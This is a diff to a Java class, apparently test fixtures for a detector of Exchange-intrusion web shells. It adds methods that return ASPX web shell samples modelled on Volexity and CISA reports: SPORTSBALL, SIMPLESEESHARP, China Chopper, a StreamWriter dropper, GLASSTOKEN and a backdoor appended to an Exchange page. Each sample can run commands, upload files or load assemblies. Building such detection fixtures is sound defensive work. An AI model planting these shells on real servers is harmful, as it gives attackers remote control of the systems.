@@ -131,6 +131,90 @@ public final class Artifacts {
                 .getBytes(StandardCharsets.US_ASCII);
     }
 
+    /**
+     * A SPORTSBALL-style page (Volexity, "Operation Exchange Marauder", 2021-03-02: an ASPX shell of the Exchange
+     * intrusions that uploads files or runs commands): a cookie gate, then either the posted file saved beside the page
+     * or the posted command typed into cmd.exe's standard input, its output shown in a page control.
+     */
+    public static byte[] sportsball() {
+        return ("<%@ Page Language=\"C#\" %>\r\n<%@ Import Namespace=\"System.IO\" %>\r\n<script runat=\"server\">\r\n"
+                + "protected void Page_Load(object sender, EventArgs e) {\r\n"
+                + "    if (HttpContext.Current.Request.Cookies[\"lgn\"] == null) return;\r\n"
+                + "    Result.InnerText = string.Empty;\r\n"
+                + "    if (HttpContext.Current.Request.Files.Count > 0) {\r\n"
+                + "        HttpPostedFile f = HttpContext.Current.Request.Files[0];\r\n"
+                + "        f.SaveAs(Path.Combine(Server.MapPath(\".\"), Path.GetFileName(f.FileName)));\r\n"
+                + "    } else if (!string.IsNullOrEmpty(HttpContext.Current.Request.Form[\"cmd\"])) {\r\n"
+                + "        System.Diagnostics.Process process = new System.Diagnostics.Process();\r\n"
+                + "        process.StartInfo.FileName = \"cmd.exe\";\r\n"
+                + "        process.StartInfo.UseShellExecute = false;\r\n"
+                + "        process.StartInfo.RedirectStandardInput = true;\r\n"
+                + "        process.StartInfo.RedirectStandardOutput = true;\r\n"
+                + "        process.Start();\r\n"
+                + "        process.StandardInput.WriteLine(HttpContext.Current.Request.Form[\"cmd\"]);\r\n"
+                + "        process.StandardInput.WriteLine(\"exit\");\r\n"
+                + "        Result.InnerText = process.StandardOutput.ReadToEnd();\r\n"
+                + "    }\r\n}\r\n</script>\r\n"
+                + "<html><body><form method=\"post\" enctype=\"multipart/form-data\" runat=\"server\"><input name=\"cmd\" />"
+                + "<input type=\"file\" name=\"upl\" /><input type=\"submit\" value=\"Upload\" /><pre id=\"Result\" runat=\"server\"></pre>"
+                + "</form></body></html>\r\n").getBytes(StandardCharsets.US_ASCII);
+    }
+
+    /**
+     * A SIMPLESEESHARP-style page (Volexity, 2021-03-02: "a simple ASPX web shell that allows an attacker to write
+     * further files to disk"): one code block that saves the posted file beside the page.
+     */
+    public static byte[] simpleSeeSharp() {
+        return ("<%@ Page Language=\"C#\" %>\r\n<% HttpPostedFile thisFile = Request.Files[0];"
+                + "thisFile.SaveAs(Path.Combine(Server.MapPath(\".\"), Path.GetFileName(thisFile.FileName))); %>\r\n")
+                .getBytes(StandardCharsets.US_ASCII);
+    }
+
+    /**
+     * The China Chopper server side as a script block, the form CISA's malware analysis reports of 2021 show in pages
+     * such as {@code TimeoutLogout.aspx} (MAR-10328877, AA21-062A).
+     */
+    public static byte[] chopperScript(String parameter) {
+        return ("<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"" + parameter
+                + "\"],\"unsafe\");}</script>\r\n").getBytes(StandardCharsets.US_ASCII);
+    }
+
+    /**
+     * A dropper page of the 2021 intrusions: writes the posted text into a file the request names, through a
+     * StreamWriter (CISA MAR-10328929; Swisscom's description of the samples, 2021-03-05).
+     */
+    public static byte[] streamWriterDropper() {
+        return ("<%@ Page Language=\"C#\" %>\r\n<script runat=\"server\">protected void Page_Load(object sender, EventArgs e)"
+                + "{System.IO.StreamWriter sw = new System.IO.StreamWriter(Request.Form[\"p\"], false, System.Text.Encoding.Default);"
+                + "sw.Write(Request.Form[\"f\"]);sw.Close();}</script>\r\n").getBytes(StandardCharsets.US_ASCII);
+    }
+
+    /**
+     * A GLASSTOKEN-style page (Volexity, 2024-01-10: a reGeorg-derived tunnel and a function that runs .NET code sent
+     * to it): the tunnel's headers, then request data decoded twice from base64, loaded as an assembly and instantiated.
+     */
+    public static byte[] glasstoken() {
+        return ("<%@ Page Language=\"C#\" EnableSessionState=\"True\" %>\r\n<%@ Import Namespace=\"System.Reflection\" %>\r\n"
+                + "<script runat=\"server\">\r\nprotected void Page_Load(object sender, EventArgs e) {\r\n"
+                + "    string cmd = Request.Headers.Get(\"X-CMD\");\r\n"
+                + "    if (cmd == \"CONNECT\") { Session[\"t\"] = Request.Headers.Get(\"X-TARGET\"); Response.AddHeader(\"X-STATUS\", \"OK\"); return; }\r\n"
+                + "    if (Request.Form[\"d\"] != null) {\r\n"
+                + "        byte[] errors = Convert.FromBase64String(System.Text.Encoding.Default.GetString(Convert.FromBase64String(Request.Form[\"d\"])));\r\n"
+                + "        Assembly.Load(errors).CreateInstance(\"Qk7t\").GetHashCode();\r\n"
+                + "    }\r\n}\r\n</script>\r\n").getBytes(StandardCharsets.US_ASCII);
+    }
+
+    /**
+     * Code an intruder appends to one of Exchange's own pages, so that the page still works and still has its name: a
+     * C# code block (a page takes script in its own language only) that runs the command a request parameter carries.
+     */
+    public static byte[] pageBackdoor(String parameter) {
+        return ("<% if (Request[\"" + parameter + "\"] != null) { var psi = new System.Diagnostics.ProcessStartInfo(\"cmd.exe\","
+                + " \"/c \" + Request[\"" + parameter + "\"]); psi.UseShellExecute = false; psi.RedirectStandardOutput = true;"
+                + " Response.Write(System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd()); } %>\r\n")
+                .getBytes(StandardCharsets.US_ASCII);
+    }
+
     /** The shape of reGeorg's ASP.NET tunnel (its headers and commands), without its socket code. */
     public static byte[] tunnel() {
         return ("<%@ Page Language=\"C#\" EnableSessionState=\"True\"%>\r\n<%@ Import Namespace=\"System.Net.Sockets\" %>\r\n"
